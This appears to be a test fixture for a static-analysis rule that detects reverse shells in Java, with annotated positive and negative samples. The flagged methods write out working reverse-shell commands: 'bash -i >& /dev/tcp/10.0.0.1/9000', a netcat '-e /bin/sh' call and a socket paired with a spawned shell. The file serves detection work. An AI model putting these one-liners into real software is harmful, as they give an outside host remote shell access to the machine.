import java.io.*;
import java.util.*;
import javax.servlet.http.*;
import java.net.*;

class Hidden extends HttpServlet {
    void connect() throws IOException {
        Socket socket = new Socket("10.0.0.1", 9000);
        // ruleid: java/command-injection/reverse-shell
        Process shell = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
    }

    void byCommand() throws IOException {
        // ruleid: java/command-injection/reverse-shell
        Runtime.getRuntime().exec("bash -i >& /dev/tcp/10.0.0.1/9000");
    }

    void byNetcat() throws IOException {
        String command = "nc 10.0.0.1 9000 -e /bin/sh";
        // ruleid: java/command-injection/reverse-shell
        Runtime.getRuntime().exec(command);
    }

    void build() throws IOException {
        // ok: java/command-injection/reverse-shell
        Process build = new ProcessBuilder("/bin/sh", "build.sh").start();
    }

    void check() throws IOException {
        // ok: java/command-injection/reverse-shell
        Runtime.getRuntime().exec("nc -z localhost 9000");
    }

    void ask() throws IOException {
        String host = "cache";
        // ok: java/command-injection/reverse-shell
        Socket socket = new Socket(host, 9000);
    }
}
